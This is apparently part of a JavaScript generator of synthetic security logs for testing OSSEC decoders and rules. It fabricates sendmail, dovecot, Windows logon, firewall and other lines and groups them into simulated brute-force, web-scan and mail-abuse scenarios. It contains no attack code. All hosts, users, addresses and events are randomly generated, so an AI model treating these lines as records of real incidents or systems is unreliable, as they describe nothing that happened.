F.sendmail = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.anyIp();
  const id = `${r.hex(6)}${r.int(10000, 99999)}`;
  const msg = r.weighted([
    [`${id}: ruleset=check_rcpt, arg1=<${w.user()}@${r.pick(DOMAINS)}>, relay=[${ip}], reject=550 5.7.1 <${w.user()}@${r.pick(DOMAINS)}>... Relaying denied`, 2],
    [`${id}: [${ip}] did not issue MAIL/EXPN/VRFY/ETRN during connection to MTA`, 1],
    [`${id}: lost input channel from [${ip}] to MTA after rcpt`, 1],
    [`${id}: from=<${w.user()}@${r.pick(DOMAINS)}>, size=${r.int(100, 99999)}, class=0, nrcpts=1, msgid=<${r.hex(12)}@x>, proto=ESMTP, daemon=MTA, relay=[${ip}]`, 2],
  ]);
  return syslog(w, c.host, withPid(w, 'sendmail'), msg);
};

F.ntpd = (w, c) => {
  const r = w.rng;
  const msg = r.weighted([
    [`synchronized to ${r.pick(w.servers)}, stratum ${r.int(1, 4)}`, 2],
    [`time reset ${r.pick(['+', '-'])}0.${r.int(100000, 999999)} s`, 1],
    [`no servers reachable`, 1],
    [`kernel time sync status change ${r.int(2000, 6001)}`, 1],
    [`ntpd 4.2.8p15@1.3728-o exiting on signal 15`, 0.3],
  ]);
  return syslog(w, c.host, withPid(w, 'ntpd'), msg);
};

F.cron = (w, c) => {
  const r = w.rng;
  const user = c.user ?? r.pick(['root', 'root', 'www-data', 'backup']);
  const msg = r.weighted([
    [['CRON', `(${user}) CMD (${r.pick(['run-parts /etc/cron.hourly', '/usr/local/bin/backup.sh', 'test -x /usr/sbin/anacron'])})`], 4],
    [['crond', `(${user}) CMD (/usr/lib64/sa/sa1 1 1)`], 1],
    [['cron', '(CRON) STARTUP (fork ok)'], 0.5],
    [['crontab', `(${user}) BEGIN EDIT (${user})`], 0.5],
    [['crontab', `(${user}) REPLACE (${user})`], 0.5],
    [['crontab', `(${user}) END EDIT (${user})`], 0.5],
  ]);
  return syslog(w, c.host, withPid(w, msg[0]), msg[1]);
};

F.dovecot = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.anyIp();
  const user = c.user ?? w.user();
  const kind = c.kind ?? r.weighted([['authfail', 3], ['login', 2], ['disc', 2], ['aborted', 1]]);
  const proto = r.pick(['imap', 'pop3']);
  const msg = {
    authfail: `auth-worker(${w.pid()}): pam(${user},${ip}): pam_authenticate() failed: Authentication failure (password mismatch?)`,
    login: `${proto}-login: Login: user=<${user}>, method=PLAIN, rip=${ip}, lip=${w.servers[0]}, mpid=${w.pid()}, TLS`,
    disc: `${proto}-login: Disconnected (auth failed, ${r.int(1, 3)} attempts in ${r.int(2, 9)} secs): user=<${user}>, method=PLAIN, rip=${ip}, lip=${w.servers[0]}, TLS`,
    aborted: `${proto}-login: Aborted login (no auth attempts in 0 secs): user=<>, rip=${ip}, lip=${w.servers[0]}`,
  }[kind];
  return syslog(w, c.host, 'dovecot', msg);
};

/** Windows agent lines (OSSEC's eventchannel/eventlog text form), legacy and 46xx ids. */
F.windows = (w, c) => {
  const r = w.rng;
  const ip = c.ip ?? w.anyIp();
  const user = c.user ?? w.user();
  const host = c.host.toUpperCase();
  const x = d(w.t);
  const head = `${x.getUTCFullYear()} ${MONTHS[x.getUTCMonth()]} ${pad2(x.getUTCDate())} ${hms(w.t)} WinEvtLog: Security:`;
  const kind = c.kind ?? r.weighted([['4625', 4], ['529', 2], ['4624', 3], ['528', 1], ['4720', 0.5], ['624', 0.3], ['4726', 0.3], ['4740', 0.5], ['4771', 1], ['680', 1], ['4672', 1], ['4634', 1]]);
  const fail = (id, text) => `${head} AUDIT_FAILURE(${id}): ${id.length === 4 ? 'Microsoft-Windows-Security-Auditing' : 'Security'}: ${id.length === 4 ? '(no user): no domain' : 'SYSTEM: NT AUTHORITY'}: ${host}: ${text}`;
  const ok = (id, text) => `${head} AUDIT_SUCCESS(${id}): ${id.length === 4 ? 'Microsoft-Windows-Security-Auditing' : 'Security'}: ${id.length === 4 ? `${user}: CORP` : 'SYSTEM: NT AUTHORITY'}: ${host}: ${text}`;
  switch (kind) {
    case '4625': return fail('4625', `An account failed to log on. Subject: Security ID: S-1-0-0 Account Name: - Account Domain: - Logon ID: 0x0 Logon Type: ${r.pick([3, 10, 2])} Account For Which Logon Failed: Security ID: S-1-0-0 Account Name: ${user} Account Domain: CORP Failure Information: Failure Reason: Unknown user name or bad password. Status: 0xc000006d Sub Status: 0xc000006a Network Information: Workstation Name: ${r.pick(['WS01', 'KALI', '-'])} Source Network Address: ${ip} Source Port: ${w.port()}`);
    case '529': return fail('529', `Logon Failure: Reason: Unknown user name or bad password User Name: ${user} Domain: CORP Logon Type: 3 Logon Process: NtLmSsp Authentication Package: NTLM Workstation Name: WS01 Source Network Address: ${ip} Source Port: ${w.port()}`);
    case '4624': return ok('4624', `An account was successfully logged on. Subject: Security ID: S-1-5-18 Account Name: ${host}$ Logon Type: ${r.pick([2, 3, 10])} New Logon: Security ID: S-1-5-21-1-2-3-1104 Account Name: ${user} Account Domain: CORP Network Information: Workstation Name: WS01 Source Network Address: ${ip} Source Port: ${w.port()}`);
    case '528': return ok('528', `Successful Logon: User Name: ${user} Domain: CORP Logon ID: (0x0,0x${r.hex(5)}) Logon Type: 2 Logon Process: User32 Authentication Package: Negotiate Workstation Name: ${host}`);
    case '4720': return ok('4720', `A user account was created. Subject: Security ID: S-1-5-21-1-2-3-500 Account Name: Administrator Account Domain: CORP New Account: Security ID: S-1-5-21-1-2-3-${r.int(1100, 1999)} Account Name: ${c.newUser ?? w.freshUser()} Account Domain: CORP`);
    case '624': return ok('624', `User Account Created: New Account Name: ${c.newUser ?? w.freshUser()} New Domain: CORP New Account ID: S-1-5-21-1-2-3-${r.int(1100, 1999)} Caller User Name: Administrator Caller Domain: CORP`);
    case '4726': return ok('4726', `A user account was deleted. Subject: Account Name: Administrator Target Account: Account Name: ${user} Account Domain: CORP`);
    case '4740': return ok('4740', `A user account was locked out. Subject: Account Name: ${host}$ Account That Was Locked Out: Security ID: S-1-5-21-1-2-3-1104 Account Name: ${user} Additional Information: Caller Computer Name: WS01`);
    case '4771': return fail('4771', `Kerberos pre-authentication failed. Account Information: Security ID: S-1-5-21-1-2-3-1104 Account Name: ${user} Service Information: Service Name: krbtgt/CORP Network Information: Client Address: ::ffff:${ip} Client Port: ${w.port()} Additional Information: Failure Code: 0x18`);
    case '680': return fail('680', `Logon attempt by: MICROSOFT_AUTHENTICATION_PACKAGE_V1_0 Logon account: ${user} Source Workstation: WS01 Error Code: 0xC000006A`);
    case '4672': return ok('4672', `Special privileges assigned to new logon. Subject: Security ID: S-1-5-21-1-2-3-500 Account Name: ${user} Account Domain: CORP Privileges: SeDebugPrivilege`);
    default: return ok('4634', `An account was logged off. Subject: Security ID: S-1-5-21-1-2-3-1104 Account Name: ${user} Account Domain: CORP Logon Type: 3`);
  }
};

F.syslog = (w, c) => {
  const r = w.rng;
  const pick = r.weighted([
    [['syslogd', '-- MARK --'], 1],
    [['syslogd 1.5.0', 'restart'], 0.5],
    [[withPid(w, 'dhcpd'), `DHCPACK on ${w.client()} to ${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)} via eth0`], 1],
    [[withPid(w, 'dhcpd'), `DHCPDISCOVER from ${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)} via eth0: network 10.0.0.0/24: no free leases`], 0.5],
    [[withPid(w, 'systemd'), `Started ${r.pick(['Session 12 of user root.', 'Daily apt download activities.', 'OpenBSD Secure Shell server.'])}`], 2],
    [[withPid(w, 'smartd'), `Device: /dev/sda [SAT], ${r.int(1, 9)} Currently unreadable (pending) sectors`], 0.3],
    [[withPid(w, 'auditd'), `Audit daemon rotating log files`], 0.3],
    [[withPid(w, 'rsyslogd'), `[origin software="rsyslogd" swVersion="8.2112.0"] rsyslogd was HUPed`], 0.5],
    [[withPid(w, 'mountd'), `authenticated mount request from ${w.client()}:${r.int(600, 1023)} for /export (/export)`], 0.3],
    [['ossec', `Agent started: '${c.host}->${w.client()}'.`], 0.2],
    [[withPid(w, 'xinetd'), `START: ${r.pick(['ftp', 'telnet'])} pid=${w.pid()} from=${w.anyIp()}`], 0.3],
    [['logger', r.pick(['test message', 'backup finished', 'link down'])], 0.5],
    [[withPid(w, 'clamd'), `/tmp/eicar.com: Eicar-Test-Signature FOUND`], 0.2],
    [[withPid(w, 'apparmor'), `audit: type=1400 audit(${Math.floor(w.t / 1000)}.123:${r.int(1, 999)}): apparmor="DENIED" operation="open" profile="/usr/sbin/named" name="/etc/x" pid=${w.pid()} comm="named" requested_mask="r" denied_mask="r" fsuid=0 ouid=0`], 0.3],
  ]);
  return syslog(w, c.host, pick[0], pick[1]);
};

const FORMATS = Object.freeze(Object.keys(F));

// ---------------------------------------------------------------------------------------------
// Scenarios: short correlated sequences; several run interleaved.

/** Each scenario: [name, weight, formats it writes, factory(world) -> generator of { format, ctx }]. */
const SCENARIOS = [
  ['noise', 30, null, null],
  ['ssh-bruteforce', 6, ['sshd'], function* (w) {
    const ip = w.attacker(); const host = w.host();
    const n = w.rng.int(3, 24);
    const fixedUser = w.rng.chance(0.5) ? w.user() : null;
    const kinds = ['fail', 'fail', 'invalid', 'pamfail', 'closed', 'maxauth', 'notallowed', 'noid'];
    const dominant = w.rng.pick(kinds);
    for (let i = 0; i < n; i++) yield ['sshd', { host, ip, user: fixedUser ?? w.user(), kind: w.rng.chance(0.7) ? dominant : w.rng.pick(kinds) }];
    if (w.rng.chance(0.3)) yield ['sshd', { host, ip, user: fixedUser ?? w.user(), kind: 'accept' }];
  }],
  ['attack-then-adduser', 3, ['sshd', 'useradd'], function* (w) {
    const ip = w.attacker(); const host = w.host();
    const n = w.rng.int(1, 8);
    for (let i = 0; i < n; i++) yield ['sshd', { host, ip, kind: w.rng.pick(['revmap', 'maxauth', 'invalid', 'fail', 'badproto']) }];
    const nu = w.rng.int(1, 3);
    for (let i = 0; i < nu; i++) yield ['useradd', { host, kind: w.rng.pick(['user', 'group', 'del', 'user']) }];
  }],
  ['windows-logon-failures', 5, ['windows'], function* (w) {
    const ip = w.attacker(); const host = w.host(); const user = w.user();
    const n = w.rng.int(2, 14);
    for (let i = 0; i < n; i++) yield ['windows', { host, ip, user: w.rng.chance(0.7) ? user : w.user(), kind: w.rng.pick(['4625', '4625', '529', '4771', '680']) }];
    if (w.rng.chance(0.3)) yield ['windows', { host, ip, user, kind: w.rng.pick(['4720', '624', '4740', '4624']) }];
  }],
  ['su-sudo-users', 5, ['su', 'sudo'], function* (w) {
    const host = w.host(); const user = w.user();
    const n = w.rng.int(1, 5);
    for (let i = 0; i < n; i++) yield [w.rng.pick(['su', 'sudo']), { host, user }];
  }],
  ['web-scan', 5, ['apache-access', 'apache-error', 'nginx-error'], function* (w) {
    const ip = w.attacker(); const host = w.host();
    const ua = w.rng.pick(USER_AGENTS);
    const n = w.rng.int(3, 25);
    for (let i = 0; i < n; i++) {
      const f = w.rng.weighted([['apache-access', 6], ['apache-error', 2], ['nginx-error', 1]]);
      yield [f, { host, ip, ua, kind: f === 'apache-access' ? (w.rng.chance(0.5) ? 'attack' : undefined) : undefined, status: f === 'apache-access' && w.rng.chance(0.6) ? w.rng.pick([400, 404, 404, 403, 500]) : undefined }];
    }
  }],
  ['web-auth', 2, ['apache-error'], function* (w) {
    const ip = w.attacker(); const host = w.host(); const v24 = w.rng.chance(0.5);
    const n = w.rng.int(2, 12);
    for (let i = 0; i < n; i++) yield ['apache-error', { host, ip, v24, kind: w.rng.pick(['auth', 'auth', 'denied', 'nofile']) }];
  }],
  ['squid-denied', 3, ['squid'], function* (w) {
    const ip = w.client(); const host = w.host();
    const n = w.rng.int(3, 20);
    for (let i = 0; i < n; i++) yield ['squid', { host, ip, code: w.rng.pick(['TCP_DENIED/403', 'TCP_MISS/404', 'TCP_MISS/400', 'TCP_MISS/503', 'TCP_DENIED/407', 'TCP_MISS/500']) }];
  }],
  ['firewall-scan', 5, ['pix', 'iptables', 'cisco-ios'], function* (w) {
    const ip = w.attacker(); const host = w.host();
    const f = w.rng.pick(['pix', 'pix', 'iptables', 'cisco-ios']);
    const n = w.rng.int(3, 24);
    for (let i = 0; i < n; i++) yield [f, { host, ip, kind: f === 'pix' ? w.rng.pick(['deny', 'acl', 'inbound', 'deny']) : f === 'cisco-ios' ? w.rng.pick(['acl', 'loginfail']) : undefined }];
  }],
  ['ftp-bruteforce', 3, ['vsftpd', 'proftpd', 'pure-ftpd'], function* (w) {
    const ip = w.attacker(); const host = w.host();
    const f = w.rng.pick(['vsftpd', 'proftpd', 'pure-ftpd']);
    const n = w.rng.int(2, 14);
    for (let i = 0; i < n; i++) yield [f, { host, ip, kind: f === 'vsftpd' ? 'fail' : f === 'proftpd' ? w.rng.pick(['fail', 'nouser']) : undefined }];
  }],
  ['mail-abuse', 3, ['postfix', 'dovecot', 'sendmail'], function* (w) {
    const ip = w.attacker(); const host = w.host();
    const n = w.rng.int(2, 16);
    for (let i = 0; i < n; i++) {
      const f = w.rng.weighted([['postfix', 3], ['dovecot', 2], ['sendmail', 1]]);
      yield [f, { host, ip, kind: f === 'postfix' ? w.rng.pick(['sasl', 'relay', 'unknownuser', 'hostname', 'rbl']) : f === 'dovecot' ? w.rng.pick(['authfail', 'disc']) : undefined }];
    }
  }],
  ['dns-denied', 2, ['named'], function* (w) {
    const ip = w.attacker(); const host = w.host();
    const n = w.rng.int(2, 12);
    for (let i = 0; i < n; i++) yield ['named', { host, ip }];
  }],
  ['pam-failures', 2, ['pam'], function* (w) {
    const host = w.host(); const user = w.user();
    const n = w.rng.int(2, 10);
    for (let i = 0; i < n; i++) yield ['pam', { host, user, kind: w.rng.pick(['loginfail', 'chkpwd', 'failedlogin', 'otherfail']) }];
  }],
  ['ini-burst', 4, [], null],
];

function pickNoiseFormat(rng, allowed, ini) {
  const pool = allowed.filter((f) => f in F);
  const iniPool = ini.length > 0 ? 1 : 0;
  if (iniPool && (pool.length === 0 || rng.chance(0.35))) return null;
  return rng.pick(pool);
}

// ---------------------------------------------------------------------------------------------
// Lines from OSSEC's own rule tests as extra templates (every decoder those tests exercise).

const MONTH_RE = /^(Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) [ 0-9]\d \d\d:\d\d:\d\d /;

/** Reads `log N pass|fail = LINE` entries of every .ini in `dir`; format `ini:<decoder>`. */
function iniTemplates(dir) {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const fs = require('node:fs');
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const path = require('node:path');
  const out = [];
  for (const name of fs.readdirSync(dir).filter((n) => n.endsWith('.ini')).sort()) {
    let pending = [];
    for (const raw of fs.readFileSync(path.join(dir, name), 'latin1').split('\n')) {
      const m = /^log \d+ (?:pass|fail) = (.*)$/.exec(raw);
      if (m) { pending.push(m[1]); continue; }
      const dm = /^decoder = (\S+)/.exec(raw);
      if (dm) { for (const line of pending) out.push({ format: `ini:${dm[1]}`, line }); pending = []; }
      if (/^\[/.test(raw)) pending = [];
    }
  }
  return out;
}

/**
 * Example lines from the comments of a decoder file (OSSEC's decoder.xml documents most
 * decoders with `- LINE` examples): format `example:<decoder>` of the decoder that follows.
 */
function decoderExamples(file) {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const fs = require('node:fs');
  const text = fs.readFileSync(file, 'latin1');
  const out = [];
  const re = /<!--([\s\S]*?)-->\s*<decoder name="([^"]+)"/g;
  let m;
  while ((m = re.exec(text)) !== null) {
    for (const raw of m[1].split('\n')) {
      const t = raw.trim();
      if (!t.startsWith('- ')) continue;
      const line = t.slice(2).trim();
      if (line.length < 25 || !/\d/.test(line) || /^(examples?|will extract|http)/i.test(line)) continue;
      out.push({ format: `example:${m[2]}`, line });
    }
  }
  return out;
}

const IP_RE = /\b(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\b/g;

/** A template line with its addresses varied (consistently within the line) and its syslog time set. */
function varyTemplate(w, tpl, ctx) {
  const map = new Map();
  let line = tpl.line.replace(IP_RE, (ip) => {
    if (!w.rng.chance(0.8) && !ctx.ip) return ip;
    if (!map.has(ip)) map.set(ip, map.size === 0 && ctx.ip ? ctx.ip : w.anyIp());
    return map.get(ip);
  });
  if (MONTH_RE.test(line)) line = `${sysTime(w.t)} ${line.slice(16)}`;
  return line;
}

// ---------------------------------------------------------------------------------------------

/** Yields { line, format, agent, time } one at a time. */
function* stream(opts) {
  const seed = opts.seed >>> 0;
  const total = opts.lines;
  const rng = new Rng(seed ^ 0x9e3779b9);
  const w = new World(rng, { agents: opts.agents ?? 6, start: opts.start ?? Date.UTC(2026, 2, 1, 0, 0, 0) + (seed % 1000) * 86_400_000 });
  const allowed = opts.formats ? opts.formats.slice() : FORMATS.slice();
  const templates = (opts.templates ?? []).filter((t) => !opts.formats || opts.formats.includes(t.format));
  const byFormat = new Map();
  for (const t of templates) {
    if (!byFormat.has(t.format)) byFormat.set(t.format, []);
    byFormat.get(t.format).push(t);
  }
  const iniFormats = [...byFormat.keys()];
  const scenarios = SCENARIOS.filter(([name, , fmts]) => {
    if (name === 'noise') return true;
    if (name === 'ini-burst') return iniFormats.length > 0;
    return fmts.every((f) => allowed.includes(f));
  }).map(([name, weight, , make]) => [[name, make], weight]);
  const active = [];
  // A burst that runs alone (no other traffic) until it ends: quiet periods in which
  // per-source frequency rules are not cut short by busier correlations.
  let solo = null;
  for (let n = 0; n < total; n++) {
    const before = w.t;
    w.tick();
    if (solo) {
      w.t = before + (rng.chance(0.6) ? 0 : 1000);
      const next = solo.next();
      if (next.done) { solo = null; n--; continue; }
      const [format, ctx] = next.value;
      yield { line: format in F ? F[format](w, ctx) : varyTemplate(w, rng.pick(byFormat.get(format)), ctx), format, agent: ctx.host, time: w.t };
      continue;
    }
    if (rng.chance(0.006)) {
      const pick = scenarios.filter(([[name]]) => name !== 'noise' && name !== 'ini-burst');
      if (pick.length > 0) {
        const [, make] = rng.weighted(pick);
        solo = make(w);
        n--;
        continue;
      }
    }
    // Keep one to six bursts running, interleaved.
    while (active.length < 1 || (active.length < 6 && rng.chance(0.08))) {
      const [name, make] = rng.weighted(scenarios);
      if (name === 'noise') break;
      if (name === 'ini-burst') {
        const fmt = rng.pick(iniFormats);
        const host = w.host(); const ip = w.attacker();
        const count = rng.int(1, 12);
        active.push({ host, gen: (function* () { for (let i = 0; i < count; i++) yield [fmt, { host, ip }]; })() });
      } else {
        active.push({ gen: make(w) });
      }
    }
    let format; let ctx;
    const useBurst = active.length > 0 && rng.chance(0.7);
    if (useBurst) {
      const i = rng.int(0, active.length - 1);
      const next = active[i].gen.next();
      if (next.done) { active.splice(i, 1); n--; continue; }
      [format, ctx] = next.value;
    } else {
      format = pickNoiseFormat(rng, allowed, iniFormats) ?? rng.pick(iniFormats);
      ctx = { host: w.host() };
    }
    let line;
    if (format in F) line = F[format](w, ctx);
    else line = varyTemplate(w, rng.pick(byFormat.get(format)), ctx);
    yield { line, format, agent: ctx.host, time: w.t };
  }
}

function generate(opts) {
  const out = { lines: [], format: [], agent: [], time: [] };
  for (const r of stream(opts)) {
    out.lines.push(r.line);
    out.format.push(r.format);
    out.agent.push(r.agent);
    out.time.push(r.time);
  }
  return out;
}

module.exports = { generate, stream, iniTemplates, decoderExamples, FORMATS, mulberry32 };
